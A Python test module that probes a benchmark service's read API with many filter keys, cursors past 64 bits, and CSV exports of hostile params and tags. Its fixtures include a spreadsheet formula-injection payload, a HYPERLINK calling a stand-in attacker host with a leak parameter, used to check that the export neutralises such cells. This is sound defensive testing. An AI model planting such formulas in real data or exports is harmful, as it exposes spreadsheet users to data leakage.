"""Probes of the read API (issue 25, items 3, 7 and 11): many filter keys and values, cursors
past 64 bits, and CSV exports of hostile params and tags."""

import base64
import csv
import io
import json
from typing import Any

from cryptobench_testsupport.reliability_harness import make_run
from cryptobench_testsupport.reliability_hostile import RUNS, Bound, Outcome, Stack, exchange

#: A cell a spreadsheet would run as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_PARAM = '=HYPERLINK("http://attacker.invalid/?leak=1","open")'
FORMULA_TAGS = {"sum": "+1+1", "at": "@SUM(1+1)*cmd", "minus": "-2+3", "tab": "\t=1+2"}
QUOTED_KEY = 'we"ird'
BIG = 2**63
CURSORS = {
    "/api/v1/runs": ["2026-11-20T10:00:00+00:00", BIG],
    "/api/v1/changes": ["2026-11-20T10:00:00+00:00", BIG],
    "/api/v1/machines": ["agent-01", BIG],
    "/api/v1/results": [BIG],
}


def many_tag_keys(stack: Stack, keys: int) -> Outcome:
    """GET /facets with `keys` distinct tag filters: answered (or a 400 naming the limit)
    within the read bound, and no query left running."""
    params = tuple((f"tag.k{i}", "v") for i in range(keys))
    outcome, _ = exchange(
        stack,
        f"facets_tag_keys:{keys}",
        f"GET /api/v1/facets with {keys} distinct tag.<key>=v filters, no token",
        Bound(statuses=("2xx", "4xx"), idle_after=True),
        lambda client: client.get("/api/v1/facets", params=params),
    )
    return outcome


def many_filter_values(stack: Stack, values: int = 1000) -> Outcome:
    params = tuple(("tag.opt_level", f"-O{i}") for i in range(values))
    outcome, _ = exchange(
        stack,
        f"filter_values:{values}",
        f"GET /api/v1/results with {values} values of tag.opt_level",
        Bound(statuses=("4xx",), idle_after=True),
        lambda client: client.get("/api/v1/results", params=params),
    )
    return outcome


def large_cursor(stack: Stack, route: str) -> Outcome:
    key = CURSORS[route]
    cursor = base64.urlsafe_b64encode(json.dumps(key).encode()).decode().rstrip("=")
    outcome, _ = exchange(
        stack,
        f"cursor_2^63:{route}",
        f"GET {route}?cursor= a sort key holding {BIG}",
        Bound(statuses=("4xx",)),
        lambda client: client.get(route, params={"cursor": cursor}),
    )
    return outcome


def _upload(stack: Stack, document: dict[str, Any]) -> int:
    with stack.client(stack.upload_token) as client:
        return client.post(RUNS, json=document).status_code


def csv_formulas(stack: Stack) -> Outcome:
    """Params and tags that a spreadsheet would run come out of the CSV export for spreadsheets
    neutralised (format=csv is the data flavour: every value exactly, for pandas and R)."""
    document = make_run(40, 0)
    document["tags"].update(FORMULA_TAGS)
    for result in document["results"]:
        result["params"]["variant"] = FORMULA_PARAM
    uploaded = _upload(stack, document)
    outcome, response = exchange(
        stack,
        "csv_formula_injection",
        f"GET /api/v1/results?format=spreadsheet of a run with param {FORMULA_PARAM!r} and tags "
        f"{FORMULA_TAGS}",
        Bound(statuses=("2xx",)),
        lambda client: client.get(
            "/api/v1/results", params={"format": "spreadsheet", "run": document["run_id"]}
        ),
    )
    outcome.check(uploaded == 201, f"upload answered {uploaded}")
    if response is not None and response.status_code == 200:
        rows = list(csv.reader(io.StringIO(response.text)))
        live = sorted({cell for row in rows[1:] for cell in row if _formula(cell)})
        outcome.figures.update(rows=len(rows) - 1, live_formula_cells=len(live))
        outcome.check(len(rows) - 1 == len(document["results"]), f"{len(rows) - 1} rows")
        outcome.check(not live, f"cells a spreadsheet runs: {live}")
    return outcome


def _formula(cell: str) -> bool:
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def csv_quoted_key(stack: Stack) -> Outcome:
    """A quote in a param key: the CSV is whole (every row, the key in the header)."""
    document = make_run(41, 0)
    for result in document["results"]:
        result["params"][QUOTED_KEY] = 1
    uploaded = _upload(stack, document)
    outcome, response = exchange(
        stack,
        "csv_quote_in_param_key",
        f"GET /api/v1/results?format=csv of a run with param key {QUOTED_KEY!r}",
        Bound(statuses=("2xx",)),
        lambda client: client.get(
            "/api/v1/results", params={"format": "spreadsheet", "run": document["run_id"]}
        ),
    )
    outcome.check(uploaded in (201, 422), f"upload answered {uploaded}")
    if uploaded == 201 and response is not None and response.status_code == 200:
        rows = list(csv.reader(io.StringIO(response.text)))
        outcome.figures["rows"] = len(rows) - 1
        outcome.check(len(rows) - 1 == len(document["results"]), f"{len(rows) - 1} rows")
        outcome.check(
            any(QUOTED_KEY in cell for cell in rows[0]) if rows else False, "key not in header"
        )
        outcome.check(len({len(row) for row in rows}) == 1, "rows of different widths")
    return outcome
